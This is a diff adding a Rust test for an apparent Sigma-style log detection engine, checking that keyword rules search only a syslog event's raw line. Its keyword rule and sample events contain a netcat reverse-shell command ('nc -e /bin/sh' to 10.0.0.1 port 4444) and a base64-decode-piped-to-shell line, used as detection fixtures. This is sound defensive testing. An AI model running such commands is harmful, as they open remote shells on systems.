@@ -297,3 +297,47 @@ fn routing_memo_starts_over_when_full_and_keeps_finding() {
     let hits: Vec<usize> = found.iter().enumerate().filter(|(_, t)| !t.is_empty()).map(|(i, _)| i).collect();
     assert_eq!(hits, (0..1_500).step_by(100).collect::<Vec<_>>());
 }
+
+#[test]
+fn keywords_of_an_event_with_a_raw_line_are_looked_for_in_the_line_alone() {
+    // Rules match keywords against the raw line of a text source (SIGMA.md
+    // D2), so the prefilter searches the line alone, not the values too.
+    let set = rules(&[(
+        "linux keywords",
+        "product: linux",
+        "keywords:\n    - 'nc -e /bin/sh'\n    - 'base64 -d |'\n    - 'kiwi'\n    - 'evil-host'\ncondition: keywords",
+    )]);
+    let syslog = |raw: &str, fields: &[(&str, &str)]| {
+        let mut e = event(&set, SourceKind::Syslog, fields);
+        e.raw = Some(raw.into());
+        e
+    };
+    let line = |host: &str, message: &str| format!("Dec 10 06:55:46 {host} bash[1]: {message}");
+    let found = titles(
+        &set,
+        &[
+            syslog(
+                &line("h", "user ran NC -E /bin/sh 10.0.0.1 4444"),
+                &[("message", "user ran NC -E /bin/sh 10.0.0.1 4444")],
+            ),
+            // In the line's header, in no value.
+            syslog(&line("EVIL-HOST", "session opened"), &[("message", "session opened")]),
+            // In a value the line does not hold (a reader's decoding): not
+            // a keyword match, with or without the prefilter.
+            syslog(&line("h", "decoded payload follows"), &[("decoded", "echo x | BASE64 -d | sh")]),
+            // Beyond ASCII: the Kelvin sign lowercases to `k`.
+            syslog(&line("h", "the \u{212A}IWI printer is ready"), &[("message", "the \u{212A}IWI printer is ready")]),
+            syslog(&line("h", "nothing to see here"), &[("message", "nothing to see here")]),
+        ],
+    );
+    assert_eq!(
+        found,
+        vec![
+            vec!["linux keywords"],
+            vec!["linux keywords"],
+            Vec::<&str>::new(),
+            vec!["linux keywords"],
+            Vec::<&str>::new(),
+        ]
+    );
+}
